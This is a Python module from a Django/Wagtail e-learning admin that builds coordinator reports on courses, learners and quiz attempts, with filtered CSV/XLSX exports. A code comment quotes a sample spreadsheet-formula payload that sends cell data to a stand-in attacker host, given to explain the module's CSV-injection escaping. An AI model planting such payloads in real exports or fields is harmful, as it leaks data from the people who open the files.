"""Coordinator reports in the admin's "Learning" menu, built as Wagtail report views: filters,
a table, and CSV/XLSX exports with the filters applied."""

import datetime
import re
import statistics
import tempfile
from collections import defaultdict
from decimal import Decimal

import django_filters
from django.contrib.auth import get_user_model
from django.db.models import Count, F, FloatField, IntegerField, Max, OuterRef, Q, QuerySet, Subquery, Sum
from django.db.models.functions import Coalesce
from django.http import FileResponse, Http404, HttpResponseBadRequest
from django.shortcuts import get_object_or_404
from django.urls import path, reverse
from django.utils import timezone, translation
from django.utils.formats import date_format, number_format
from django.utils.functional import cached_property
from django.utils.html import format_html
from django.utils.translation import gettext_lazy as _
from django.utils.translation import pgettext_lazy
from wagtail.admin.filters import WagtailFilterSet
from wagtail.admin.menu import MenuItem
from wagtail.admin.ui.tables import Column, DateColumn, TitleColumn
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.views.reports import ReportView
from wagtail.admin.widgets import AdminDateInput
from wagtail.admin.widgets.button import HeaderButton

from accounts.models import OrganisationType, Voivodeship
from certificates.models import Certificate
from common.models import TopicArea
from courses.access import forbidden, require_in_scope, scope_q
from courses.models import CoursePage, Enrolment, LessonProgress, QuizAttempt
from courses.selectors import course_steps
from elearning.formatting import format_duration
from elearning.paginator import CountedListingMixin

REPORTS_PERMISSION = "courses.view_learning_reports"
COMPLETE_PERMISSION = "courses.complete_manually"
User = get_user_model()


class LearnerFilterSet(WagtailFilterSet):
    """Who is counted: enrolled in a date range, by organisation type, voivodeship and
    municipality. These narrow the learners counted, not the courses listed."""

    enrolled_from = django_filters.DateFilter(label=_("Enrolled from"), method="keep", widget=AdminDateInput)
    enrolled_to = django_filters.DateFilter(label=_("Enrolled until"), method="keep", widget=AdminDateInput)
    organisation_type = django_filters.ChoiceFilter(
        label=_("Organisation type"), choices=OrganisationType.choices, method="keep"
    )
    voivodeship = django_filters.ChoiceFilter(
        label=_("Voivodeship"), choices=Voivodeship.choices, method="keep"
    )
    municipality = django_filters.CharFilter(label=_("Municipality"), method="keep")

    def keep(self, queryset, name, value):
        return queryset

    def enrolment_q(self, prefix="") -> Q:
        """The chosen learners, as a condition on enrolments (reached through `prefix`)."""
        data = self.form.cleaned_data if self.is_valid() else {}
        q = Q()
        if data.get("enrolled_from"):
            q &= Q(**{f"{prefix}enrolled_at__date__gte": data["enrolled_from"]})
        if data.get("enrolled_to"):
            q &= Q(**{f"{prefix}enrolled_at__date__lte": data["enrolled_to"]})
        for field in ("organisation_type", "voivodeship"):
            if data.get(field):
                q &= Q(**{f"{prefix}learner__{field}": data[field]})
        if data.get("municipality"):
            q &= Q(**{f"{prefix}learner__municipality__iexact": data["municipality"].strip()})
        return q


class CoursesOverviewFilterSet(LearnerFilterSet):
    topic_area = django_filters.ModelChoiceFilter(label=_("Topic area"), queryset=TopicArea.objects.all())

    class Meta:
        model = CoursePage
        fields = ["topic_area"]


def report_paths(prefix, view, name):
    """A report's page and its results fragment (what the filters refresh)."""
    return [
        path(prefix, view.as_view(), name=name),
        path(f"{prefix}results/", view.as_view(results_only=True), name=f"{name}_results"),
    ]


def learner_search_q(value: str, prefix: str = "") -> Q:
    """Learners whose name, email or organisation contains `value` (users reached through `prefix`)."""
    q = Q()
    for field in ("email", "display_name", "first_name", "last_name", "organisation_name"):
        q |= Q(**{f"{prefix}{field}__icontains": value.strip()})
    return q


class OneObjectReportMixin:
    """A report on one object (a course, a learner, a quiz): its addresses carry the object's id
    and its breadcrumbs lead back to the list it belongs to."""

    parent_url_name = None
    parent_label = None

    def report_object_id(self) -> int:
        raise NotImplementedError

    def get_index_url(self):
        return reverse(self.index_url_name, args=[self.report_object_id()])

    def get_index_results_url(self):
        return reverse(self.index_results_url_name, args=[self.report_object_id()])

    def get_breadcrumbs_items(self):
        return [
            *self.breadcrumbs_items,
            {"url": reverse(self.parent_url_name), "label": self.parent_label},
            {"url": "", "label": self.get_page_title(), "sublabel": self.get_page_subtitle()},
        ]


class ReportPermissionMixin:
    def dispatch(self, request, *args, **kwargs):
        if not request.user.has_perm(REPORTS_PERMISSION):
            return forbidden(request)
        return super().dispatch(request, *args, **kwargs)


class ReportMenuItem(MenuItem):
    """A "Learning" menu item shown to those who may see the reports."""

    def is_shown(self, request):
        return request.user.has_perm(REPORTS_PERMISSION)


# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): an
# organisation named '=HYPERLINK("http://evil.example/?x="&A1,"x")' would send a coordinator's
# data away. Such text is written with an apostrophe in front, which spreadsheets show as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """`value`, or a string a spreadsheet cannot take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class StreamingExportMixin:
    """Exports that do not hold the rows in memory: the rows come from the database in chunks
    (decorated a chunk at a time), the CSV streams, and the XLSX (openpyxl's write-only mode) is
    written through a temporary file that spills to disk."""

    export_chunk_size = 1000
    results_template_name = "reporting/report_results.html"

    # The exports are buttons in the header itself, not hidden in its "…" menu.
    @cached_property
    def header_buttons(self):
        if not self.show_export_buttons:
            return []
        return [
            HeaderButton(_("Download XLSX"), url=self.xlsx_export_url, icon_name="download", priority=10),
            HeaderButton(_("Download CSV"), url=self.csv_export_url, icon_name="download", priority=20),
        ]

    @cached_property
    def header_more_buttons(self):
        exports = {self.xlsx_export_url, self.csv_export_url}
        return [button for button in super().header_more_buttons if button.url not in exports]

    # Times in the site's time zone, as the coordinator reads them.
    custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        datetime.datetime: {
            SpreadsheetExportMixin.FORMAT_CSV: lambda value: timezone.localtime(value).strftime(
                "%Y-%m-%d %H:%M"
            ),
            SpreadsheetExportMixin.FORMAT_XLSX: lambda value: timezone.make_naive(value),
        },
    }

    def get(self, request, *args, **kwargs):
        if not self.is_export:
            return super().get(request, *args, **kwargs)
        if self.filters and not self.filters.is_valid():
            # Never an unfiltered export that looks like a filtered one.
            errors = "; ".join(
                f"{self.filters.form[name].label}: {' '.join(messages)}"
                for name, messages in self.filters.form.errors.items()
            )
            return HttpResponseBadRequest(
                _("The filters are not valid, so nothing was exported. %(errors)s") % {"errors": errors},
                content_type="text/plain; charset=utf-8",
            )
        return self.as_spreadsheet(self.export_rows(), request.GET["export"])

    def stream_csv(self, queryset):
        """The CSV in the language and time zone of the request (the response streams after the
        view has returned and Wagtail has left the admin user's language), starting with a
        UTF-8 byte order mark: without it Excel reads the file in the system's code page and
        garbles "Łęcka"."""
        rows = super().stream_csv(queryset)
        zone = timezone.get_current_timezone()
        return self._localised(rows, translation.get_language(), zone, first="\ufeff")

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    def get_heading(self, queryset, field):
        # Headings carry editors' titles ("Best: <quiz>"), so they are made safe too.
        return spreadsheet_safe(str(self.export_headings.get(field, field)))

    def write_csv_response(self, queryset):
        response = super().write_csv_response(queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response

    def sheet_title(self) -> str:
        """The XLSX sheet's name: the report's title, within what Excel allows (31 characters,
        none of []:*?/\\)."""
        title = str(self.get_page_title() or self.get_filename())
        title = re.sub(r"\s*[\[\]:*?/\\]+\s*", " – ", title).strip(" –")
        return re.sub(r"\s+", " ", title)[:31].strip() or "Raport"

    def write_xlsx(self, queryset, output):
        """Wagtail's write-only workbook, with the sheet named after the report (not "Sheet1")."""
        from openpyxl import Workbook
        from wagtail.admin.views.mixins import ExcelDateFormatter

        workbook = Workbook(write_only=True, iso_dates=True)
        worksheet = workbook.create_sheet(title=self.sheet_title())
        worksheet.append(self.get_heading(queryset, field) for field in self.list_export)
        date_format = ExcelDateFormatter().get()
        for item in queryset:
            row = self.to_row_dict(item)
            worksheet.append(self.generate_xlsx_row(worksheet, row, date_format=date_format))
        workbook.save(output)

    @staticmethod
    def _localised(rows, language, zone, first=""):
        if first:
            yield first
        with translation.override(language), timezone.override(zone):
            yield from rows

    def export_queryset(self):
        return self.get_filtered_queryset()

    def export_rows(self):
        queryset = self.export_queryset()
        if not isinstance(queryset, QuerySet):
            yield from self.decorate_paginated_queryset(queryset)
            return
        chunk = []
        for row in queryset.iterator(chunk_size=self.export_chunk_size):
            chunk.append(row)
            if len(chunk) == self.export_chunk_size:
                yield from self.decorate_paginated_queryset(chunk)
                chunk = []
        if chunk:
            yield from self.decorate_paginated_queryset(chunk)

    def write_xlsx_response(self, queryset):
        output = tempfile.SpooledTemporaryFile(max_size=2**20)  # noqa: SIM115 (FileResponse closes it)
        self.write_xlsx(queryset, output)
        output.seek(0)
        return FileResponse(
            output,
            as_attachment=True,
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            filename=f"{self.get_filename()}.xlsx",
        )


def heading(short, full):
    """A column heading short enough for the table at 1280 px, with the full wording as its
    tooltip (the export uses the full wording)."""
    return format_html('<span title="{}">{}</span>', full, short)


def _count(queryset, group="course"):
    """The number of rows of a correlated subquery, 0 when none."""
    return Coalesce(
        Subquery(queryset.order_by().values(group).annotate(n=Count("pk")).values("n")[:1]),
        0,
        output_field=IntegerField(),
    )


class CountedReportView(ReportPermissionMixin, StreamingExportMixin, CountedListingMixin, ReportView):
    """The base of the coordinators' reports: permission checked, exports streamed, the row count
    in grammatical Polish."""


class CoursesOverviewView(CountedReportView):
    """Per course: enrolled, in progress, completed, completion rate, median days to complete,
    average best quiz score and certificates issued, for the learners the filters choose."""

    page_title = _("Courses overview")
    header_icon = "table"
    index_url_name = "report_courses_overview"
    index_results_url_name = "report_courses_overview_results"
    filterset_class = CoursesOverviewFilterSet
    paginate_by = 50

    @cached_property
    def columns(self):
        return [
            TitleColumn(
                "title", label=_("Course"), get_url=lambda course: reverse("report_course", args=[course.pk])
            ),
            Column("enrolled", label=_("Enrolled")),
            Column("in_progress", label=_("In progress")),
            Column(
                "completed", label=heading(pgettext_lazy("learners", "Completed"), _("Completed the course"))
            ),
            Column("completed_manually", label=heading(_("Manually"), _("Of them marked complete manually"))),
            Column("completion_rate_display", label=heading(_("Completion %"), _("Completion rate"))),
            Column(
                "median_days_display",
                label=heading(
                    _("Median days"), _("Median days to complete (not counting manual completions)")
                ),
            ),
            Column(
                "average_best_display",
                label=heading(_("Avg. quiz score"), _("Average best quiz score (per learner and quiz)")),
            ),
            Column("certificates_issued", label=heading(_("Certificates"), _("Certificates issued"))),
        ]

    list_export = [
        "title",
        "enrolled",
        "in_progress",
        "completed",
        "completed_manually",
        "completion_rate",
        "median_days",
        "average_best",
        "certificates_issued",
    ]
    export_headings = {
        "title": _("Course"),
        "enrolled": _("Enrolled"),
        "in_progress": _("In progress"),
        "completed": _("Completed the course"),
        "completed_manually": _("Of them marked complete manually"),
        "completion_rate": _("Completion rate (%)"),
        "median_days": _("Median days to complete (not counting manual completions)"),
        "average_best": _("Average best quiz score (%, per learner and quiz)"),
        "certificates_issued": _("Certificates issued"),
    }

    def get_queryset(self):
        q = self.filters.enrolment_q() if self.filters else Q()
        enrolments = Enrolment.objects.filter(q, course=OuterRef("pk"))
        certificates = Certificate.objects.filter(
            self.filters.enrolment_q("enrolment__") if self.filters else Q(),
            course=OuterRef("pk"),
            state=Certificate.State.ISSUED,
        )
        return (
            CoursePage.objects.live()
            .filter(scope_q(self.request.user))
            .only("id", "title", "path", "depth", "url_path")
            .annotate(
                enrolled=_count(enrolments),
                completed=_count(enrolments.filter(completed_at__isnull=False)),
                completed_manually=_count(enrolments.filter(manual_completion__isnull=False)),
                certificates_issued=_count(certificates),
            )
            .order_by("title")
        )

    def decorate_paginated_queryset(self, object_list):
        courses = list(object_list)
        ids = [course.pk for course in courses]
        q = self.filters.enrolment_q() if self.filters else Q()
        # Days to complete: completions by the learner's own steps only (a manual one is dated
        # by the coordinator's click).
        durations = defaultdict(list)
        completions = Enrolment.objects.filter(
            q, course__in=ids, completed_at__isnull=False, manual_completion__isnull=True
        ).values_list("course", "enrolled_at", "completed_at")
        for course_id, enrolled_at, completed_at in completions.iterator(chunk_size=2000):
            durations[course_id].append((completed_at - enrolled_at).total_seconds() / 86400)
        # Average of each learner's best result in each quiz, summed as the rows stream past.
        sums, counts = defaultdict(float), defaultdict(int)
        bests = (
            QuizAttempt.objects.filter(self.filters.enrolment_q("enrolment__") if self.filters else Q())
            .filter(enrolment__course__in=ids, percent__isnull=False)
            .values("enrolment__course", "enrolment", "quiz")
            .annotate(best=Max("percent"))
            .values_list("enrolment__course", "best")
        )
        for course_id, best in bests.iterator(chunk_size=2000):
            sums[course_id] += float(best)
            counts[course_id] += 1
        for course in courses:
            course.in_progress = course.enrolled - course.completed
            course.completion_rate = (
                round(100 * course.completed / course.enrolled, 1) if course.enrolled else None
            )
            days = durations.pop(course.pk, None)
            course.median_days = round(statistics.median(days), 1) if days else None
            course.average_best = round(sums[course.pk] / counts[course.pk], 1) if counts[course.pk] else None
            course.completion_rate_display = percent_display(course.completion_rate)
            course.median_days_display = (
                "—" if course.median_days is None else number_format(course.median_days)
            )
            course.average_best_display = percent_display(course.average_best)
        return courses

    def get_filename(self):
        return "kursy-przeglad"


def can_be_completed(learner) -> bool:
    """Whether a coordinator may mark courses complete for the learner: not for a deleted or
    deactivated account, which has no name or address for a certificate."""
    return learner.is_active and not learner.anonymised_at


def percent_display(value) -> str:
    return "—" if value is None else f"{number_format(value)}%"


def manual_completion_text(manual) -> str:
    return _("Marked complete by %(who)s on %(when)s: %(reason)s") % {
        "who": manual.completed_by_name,
        "when": date_format(timezone.localtime(manual.created_at), "SHORT_DATE_FORMAT"),
        "reason": manual.reason,
    }


def decorate_enrolment(enrolment, steps: int):
    """Figures of one enrolment row, from its annotations and joined rows (no queries)."""
    for name in [name for name in vars(enrolment) if name.startswith("best_") and "display" not in name]:
        value = getattr(enrolment, name)
        if value is not None:
            value = Decimal(value).quantize(Decimal("0.01"))
            setattr(enrolment, name, value)
        setattr(enrolment, f"{name}_display", "—" if value is None else f"{number_format(value)}%")
    done = enrolment.lessons_done + enrolment.quizzes_passed
    enrolment.steps_done = done
    refused = getattr(enrolment, "playback_refused", 0) or 0
    enrolment.playback_refused = round(refused)
    enrolment.playback_refused_display = format_duration(refused) if refused else "—"
    enrolment.progress_percent = min(100, round(100 * done / steps)) if steps else 0
    enrolment.progress_display = f"{enrolment.progress_percent}%" if steps else "—"
    enrolment.learner_name = enrolment.learner.get_display_name()
    manual = getattr(enrolment, "manual_completion", None)
    enrolment.completed_manually = manual is not None
    enrolment.manual_completion_display = manual_completion_text(manual) if manual else ""
    enrolment.completed_display = "—"
    if enrolment.completed_at:
        when = date_format(timezone.localtime(enrolment.completed_at), "SHORT_DATE_FORMAT")
        enrolment.completed_display = _("%(date)s (manually)") % {"date": when} if manual else when
    certificate = getattr(enrolment, "certificate", None)
    enrolment.certificate_state = certificate.get_state_display() if certificate else "—"
    enrolment.certificate_code = certificate.code if certificate else ""
    return enrolment


def enrolment_figures(queryset, items):
    """Enrolments annotated with their completed steps among `items` (the course's live lessons
    and quizzes) and each quiz's best result, all in the one query."""
    lesson_ids = [item.pk for item in items if not item.is_quiz]
    quiz_ids = [item.pk for item in items if item.is_quiz]
    lessons = LessonProgress.objects.filter(
        enrolment=OuterRef("pk"), lesson__in=lesson_ids, completed_at__isnull=False
    )
    passed = (
        QuizAttempt.objects.filter(enrolment=OuterRef("pk"), quiz__in=quiz_ids, passed=True)
        .order_by()
        .values("enrolment")
        .annotate(n=Count("quiz", distinct=True))
        .values("n")[:1]
    )
    best = {
        f"best_{quiz_id}": Subquery(
            QuizAttempt.objects.filter(enrolment=OuterRef("pk"), quiz=quiz_id, percent__isnull=False)
            .order_by("-percent")
            .values("percent")[:1]
        )
        for quiz_id in quiz_ids
    }
    # Playback the browser claimed beyond what could have been played (courses.services): a
    # learner whose saves were refused much is worth a look before their certificate is trusted.
    refused = (
        LessonProgress.objects.filter(enrolment=OuterRef("pk"), lesson__in=lesson_ids)
        .order_by()
        .values("enrolment")
        .annotate(seconds=Sum("refused_seconds"))
        .values("seconds")[:1]
    )
    return queryset.annotate(
        lessons_done=_count(lessons, "enrolment"),
        playback_refused=Coalesce(Subquery(refused), 0.0, output_field=FloatField()),
        quizzes_passed=Coalesce(Subquery(passed), 0, output_field=IntegerField()),
        steps_done=F("lessons_done") + F("quizzes_passed"),
        **best,
    )


class CourseLearnersFilterSet(LearnerFilterSet):
    status = django_filters.ChoiceFilter(
        label=_("Status"),
        choices=[("completed", _("Completed the course")), ("in_progress", _("In progress"))],
        method="filter_status",
    )
    learner = django_filters.CharFilter(label=_("Name, email or organisation"), method="filter_learner")

    class Meta:
        model = Enrolment
        fields = []

    def filter_status(self, queryset, name, value):
        return queryset.filter(completed_at__isnull=value != "completed")

    def filter_learner(self, queryset, name, value):
        return queryset.filter(learner_search_q(value, "learner__"))


class CourseReportView(OneObjectReportMixin, CountedReportView):
    """One course: its learners with progress, last activity, best quiz scores, completion
    (and who completed it by hand, and why) and certificate state; above them, how many of the
    chosen learners reached and completed each step."""

    header_icon = "table"
    index_url_name = "report_course"
    index_results_url_name = "report_course_results"
    parent_url_name = "report_courses_overview"
    parent_label = _("Courses overview")
    results_template_name = "courses/admin/course_report_results.html"
    filterset_class = CourseLearnersFilterSet
    paginate_by = 50
    default_ordering = "-last_activity_at"

    def setup(self, request, *args, **kwargs):
        super().setup(request, *args, **kwargs)
        self.course = get_object_or_404(CoursePage, pk=kwargs["course_id"])
        self.items = self.course.syllabus()
        self.quizzes = [item for item in self.items if item.is_quiz]

    def dispatch(self, request, *args, **kwargs):
        if request.user.has_perm(REPORTS_PERMISSION):
            require_in_scope(request.user, self.course.pk)
        return super().dispatch(request, *args, **kwargs)

    def get_page_title(self):
        return self.course.title

    def get_page_subtitle(self):
        return _("Course report")

    def report_object_id(self):
        return self.course.pk

    @cached_property
    def columns(self):
        return [
            TitleColumn(
                "learner_name",
                label=_("Learner"),
                sort_key="learner__display_name",
                get_url=lambda enrolment: reverse("report_learner", args=[enrolment.learner_id]),
            ),
            Column("learner.organisation_name", label=_("Organisation")),
            Column("learner.municipality", label=_("Municipality")),
            Column("progress_display", label=_("Progress"), sort_key="steps_done"),
            DateColumn("last_activity_at", label=_("Last activity"), sort_key="last_activity_at"),
            *(
                Column(
                    f"best_{quiz.pk}_display",
                    label=heading(
                        _("Quiz %(number)d") % {"number": number}, _("Best: %(quiz)s") % {"quiz": quiz.title}
                    ),
                )
                for number, quiz in enumerate(self.quizzes, start=1)
            ),
            Column(
                "completed_display",
                label=heading(pgettext_lazy("date", "Completed"), _("Completion date")),
                sort_key="completed_at",
            ),
            Column("certificate_state", label=_("Certificate")),
            Column(
                "playback_refused_display",
                label=heading(_("Refused"), _("Playback refused")),
                sort_key="playback_refused",
            ),
        ]

    @cached_property
    def list_export(self):
        return [
            "learner_name",
            "learner.email",
            "learner.organisation_name",
            "learner.get_organisation_type_display",
            "learner.get_voivodeship_display",
            "learner.municipality",
            "enrolled_at",
            "steps_done",
            "progress_percent",
            "last_activity_at",
            *(f"best_{quiz.pk}" for quiz in self.quizzes),
            "completed_at",
            "manual_completion_display",
            "certificate_state",
            "certificate_code",
            "playback_refused",
        ]

    @cached_property
    def export_headings(self):
        return {
            "learner_name": _("Learner"),
            "learner.email": _("Email"),
            "learner.organisation_name": _("Organisation"),
            "learner.get_organisation_type_display": _("Organisation type"),
            "learner.get_voivodeship_display": _("Voivodeship"),
            "learner.municipality": _("Municipality"),
            "enrolled_at": pgettext_lazy("date", "Enrolled"),
            "steps_done": _("Steps completed (of %(steps)d)") % {"steps": len(self.items)},
            "progress_percent": _("Progress (%)"),
            "last_activity_at": _("Last activity"),
            **{f"best_{quiz.pk}": _("Best: %(quiz)s (%%)") % {"quiz": quiz.title} for quiz in self.quizzes},
            "completed_at": _("Completion date"),
            "manual_completion_display": _("Manual completion"),
            "certificate_state": _("Certificate"),
            "certificate_code": _("Certificate code"),
            "playback_refused": _("Playback refused (s)"),
        }

    def learners(self):
        """The enrolments the filters choose, before figures and ordering."""
        queryset = Enrolment.objects.filter(course=self.course)
        if self.filters and self.filters.is_valid():
            queryset = self.filters.filter_queryset(queryset).filter(self.filters.enrolment_q())
        return queryset

    def get_filtered_queryset(self):
        queryset = enrolment_figures(self.learners(), self.items).select_related(
            "learner", "certificate", "manual_completion"
        )
        return queryset.order_by(self.ordering or "-last_activity_at", "pk")

    def decorate_paginated_queryset(self, object_list):
        steps = len(self.items)
        return [decorate_enrolment(enrolment, steps) for enrolment in object_list]

    def get_context_data(self, **kwargs):
        context = super().get_context_data(**kwargs)
        context["course"] = self.course
        context["reach"] = self.reach(context["items_count"])
        context["learner_total"] = context["items_count"]
        return context

    def reach(self, total):
        """Per step: how many of the chosen learners reached it (opened the lesson, tried the
        quiz) and completed it (two queries)."""
        learners = self.learners().values("pk")
        lessons = {
            row["lesson"]: row
            for row in LessonProgress.objects.filter(enrolment__in=learners, lesson__in=self.items_of(False))
            .values("lesson")
            .annotate(
                reached=Count("pk"),
                completed=Count("pk", filter=Q(completed_at__isnull=False)),
                without_video=Count("pk", filter=Q(completed_at__isnull=False, completed_without_video=True)),
            )
        }
        quizzes = {
            row["quiz"]: row
            for row in QuizAttempt.objects.filter(enrolment__in=learners, quiz__in=self.items_of(True))
            .values("quiz")
            .annotate(
                reached=Count("enrolment", distinct=True),
                completed=Count("enrolment", distinct=True, filter=Q(passed=True)),
            )
        }
        rows = []
        for number, item in enumerate(self.items, start=1):
            row = (quizzes if item.is_quiz else lessons).get(item.pk, {})
            reached, completed = row.get("reached", 0), row.get("completed", 0)
            rows.append(
                {
                    "number": number,
                    "item": item,
                    "reached": reached,
                    "completed": completed,
                    "without_video": row.get("without_video", 0),
                    "reached_percent": round(100 * reached / total) if total else 0,
                    "completed_percent": round(100 * completed / total) if total else 0,
                }
            )
        return rows

    def items_of(self, quiz: bool):
        return [item.pk for item in self.items if item.is_quiz == quiz]

    def get_filename(self):
        return f"kurs-{self.course.slug}"


class LearnersFilterSet(WagtailFilterSet):
    learner = django_filters.CharFilter(label=_("Name, email or organisation"), method="filter_learner")
    organisation_type = django_filters.ChoiceFilter(
        label=_("Organisation type"), choices=OrganisationType.choices
    )
    voivodeship = django_filters.ChoiceFilter(label=_("Voivodeship"), choices=Voivodeship.choices)
    municipality = django_filters.CharFilter(label=_("Municipality"), method="filter_municipality")

    class Meta:
        model = User
        fields = ["organisation_type", "voivodeship"]

    def filter_learner(self, queryset, name, value):
        return queryset.filter(learner_search_q(value))

    def filter_municipality(self, queryset, name, value):
        return queryset.filter(municipality__iexact=value.strip())


class LearnersView(CountedReportView):
    """Everyone enrolled in the coordinator's courses, with how many they took and completed;
    each leads to the learner's report."""

    page_title = _("Learners")
    header_icon = "group"
    index_url_name = "report_learners"
    index_results_url_name = "report_learners_results"
    filterset_class = LearnersFilterSet
    paginate_by = 50
    columns = [
        TitleColumn(
            "learner_name",
            label=_("Learner"),
            get_url=lambda user: reverse("report_learner", args=[user.pk]),
        ),
        Column("email", label=_("Email")),
        Column("organisation_name", label=_("Organisation")),
        Column("municipality", label=_("Municipality")),
        Column("courses_enrolled", label=_("Courses")),
        Column("courses_completed", label=_("Completed courses")),
        DateColumn("last_activity", label=_("Last activity")),
    ]
    list_export = [
        "learner_name",
        "email",
        "organisation_name",
        "get_organisation_type_display",
        "get_voivodeship_display",
        "municipality",
        "courses_enrolled",
        "courses_completed",
        "last_activity",
    ]
    export_headings = {
        "learner_name": _("Learner"),
        "email": _("Email"),
        "organisation_name": _("Organisation"),
        "get_organisation_type_display": _("Organisation type"),
        "get_voivodeship_display": _("Voivodeship"),
        "municipality": _("Municipality"),
        "courses_enrolled": _("Courses"),
        "courses_completed": _("Completed courses"),
        "last_activity": _("Last activity"),
    }

    def get_queryset(self):
        in_scope = scope_q(self.request.user, "enrolments__course")
        return (
            User.objects.filter(in_scope, enrolments__isnull=False)
            .annotate(
                courses_enrolled=Count("enrolments", filter=in_scope),
                courses_completed=Count(
                    "enrolments", filter=in_scope & Q(enrolments__completed_at__isnull=False)
                ),
                last_activity=Max("enrolments__last_activity_at", filter=in_scope),
            )
            .order_by("-last_activity", "pk")
        )

    def decorate_paginated_queryset(self, object_list):
        users = list(object_list)
        for user in users:
            user.learner_name = user.get_display_name()
        return users

    def get_filename(self):
        return "uczestnicy"


class LearnerReportView(OneObjectReportMixin, CountedReportView):
    """One learner: every course of theirs the coordinator may see, with progress, completion
    (manual ones with who and why) and certificate, and below them every quiz attempt. Exports
    the courses, or with `list=attempts` the attempts."""

    header_icon = "user"
    index_url_name = "report_learner"
    index_results_url_name = "report_learner_results"
    parent_url_name = "report_learners"
    parent_label = _("Learners")
    results_template_name = "courses/admin/learner_report_results.html"
    paginate_by = 100
    columns = [
        TitleColumn(
            "course.title",
            label=_("Course"),
            get_url=lambda enrolment: reverse("report_course", args=[enrolment.course_id]),
        ),
        DateColumn("enrolled_at", label=pgettext_lazy("date", "Enrolled")),
        Column("progress_display", label=_("Progress")),
        DateColumn("last_activity_at", label=_("Last activity")),
        Column("completed_display", label=_("Completion date")),
        Column("manual_completion_display", label=_("Manual completion")),
        Column("certificate_state", label=_("Certificate")),
        Column("certificate_code", label=_("Certificate code")),
        Column("action", label=_("Actions")),
    ]
    attempt_export = {
        "course_title": _("Course"),
        "quiz.title": _("Quiz"),
        "number": _("Attempt"),
        "started_at": _("Started"),
        "submitted_at": _("Submitted"),
        "percent": _("Result (%)"),
        "pass_mark": _("Pass mark (%)"),
        "passed_display": _("Passed"),
    }
    course_export = {
        "course.title": _("Course"),
        "enrolled_at": pgettext_lazy("date", "Enrolled"),
        "steps_done": _("Steps completed"),
        "progress_percent": _("Progress (%)"),
        "last_activity_at": _("Last activity"),
        "completed_at": _("Completion date"),
        "manual_completion_display": _("Manual completion"),
        "certificate_state": _("Certificate"),
        "certificate_code": _("Certificate code"),
    }

    def setup(self, request, *args, **kwargs):
        super().setup(request, *args, **kwargs)
        self.learner = get_object_or_404(User, pk=kwargs["user_id"])
        self.exporting_attempts = request.GET.get("list") == "attempts"
        self.export_headings = self.attempt_export if self.exporting_attempts else self.course_export
        self.list_export = list(self.export_headings)

    def get_page_title(self):
        return self.learner.get_display_name()

    def get_page_subtitle(self):
        return _("Learner report")

    def report_object_id(self):
        return self.learner.pk

    def enrolments(self):
        return Enrolment.objects.filter(scope_q(self.request.user, "course"), learner=self.learner)

    def get_filtered_queryset(self):
        return (
            self.enrolments()
            .select_related("course", "certificate", "manual_completion")
            .order_by("-enrolled_at", "pk")
        )

    def get(self, request, *args, **kwargs):
        if not self.enrolments().exists():
            raise Http404  # not a learner in any course this coordinator may see
        return super().get(request, *args, **kwargs)

    def export_queryset(self):
        if self.exporting_attempts:
            return self.attempts()
        return self.get_filtered_queryset()

    def decorate_paginated_queryset(self, object_list):
        if self.exporting_attempts:
            return [decorate_attempt(attempt) for attempt in object_list]
        enrolments = list(object_list)
        steps = course_steps({enrolment.course for enrolment in enrolments})
        figures = self.figures(enrolments, [item for items in steps.values() for item in items])
        can_complete = self.request.user.has_perm(COMPLETE_PERMISSION) and can_be_completed(self.learner)
        for enrolment in enrolments:
            enrolment.learner = self.learner
            enrolment.lessons_done, enrolment.quizzes_passed = figures.get(enrolment.pk, (0, 0))
            decorate_enrolment(enrolment, len(steps[enrolment.course_id]))
            enrolment.action = (
                format_html(
                    '<a href="{}">{}</a>',
                    reverse("enrolment_complete", args=[enrolment.pk]),
                    _("Mark as completed"),
                )
                if can_complete and not enrolment.completed_at
                else ""
            )
        return enrolments

    @staticmethod
    def figures(enrolments, items) -> dict:
        """Completed lessons and passed quizzes among `items`, per enrolment (two queries)."""
        ids = [enrolment.pk for enrolment in enrolments]
        lessons = dict(
            LessonProgress.objects.filter(
                enrolment__in=ids,
                completed_at__isnull=False,
                lesson__in=[item.pk for item in items if not item.is_quiz],
            )
            .values("enrolment")
            .annotate(n=Count("pk"))
            .values_list("enrolment", "n")
        )
        quizzes = dict(
            QuizAttempt.objects.filter(
                enrolment__in=ids, passed=True, quiz__in=[item.pk for item in items if item.is_quiz]
            )
            .values("enrolment")
            .annotate(n=Count("quiz", distinct=True))
            .values_list("enrolment", "n")
        )
        return {pk: (lessons.get(pk, 0), quizzes.get(pk, 0)) for pk in ids}

    def attempts(self):
        return (
            QuizAttempt.objects.filter(scope_q(self.request.user, "enrolment__course"), learner=self.learner)
            .select_related("quiz", "enrolment__course")
            .only(
                "number",
                "started_at",
                "submitted_at",
                "percent",
                "pass_mark",
                "passed",
                "quiz__title",
                "enrolment__course__title",
            )  # fmt: skip
            .order_by("enrolment__course__title", "quiz__path", "number")
        )

    def get_context_data(self, **kwargs):
        context = super().get_context_data(**kwargs)
        context["learner"] = self.learner
        context["attempts"] = [decorate_attempt(attempt) for attempt in self.attempts()]
        params = self.request.GET.copy()
        params["list"] = "attempts"
        context["attempt_exports"] = {
            fmt: f"{self.request.path}?{params.urlencode()}&export={fmt}" for fmt in ("csv", "xlsx")
        }
        return context

    def get_filename(self):
        kind = "proby" if self.exporting_attempts else "kursy"
        return f"uczestnik-{self.learner.pk}-{kind}"


def decorate_attempt(attempt):
    attempt.course_title = attempt.enrolment.course.title
    attempt.passed_display = "—" if attempt.passed is None else (_("yes") if attempt.passed else _("no"))
    return attempt
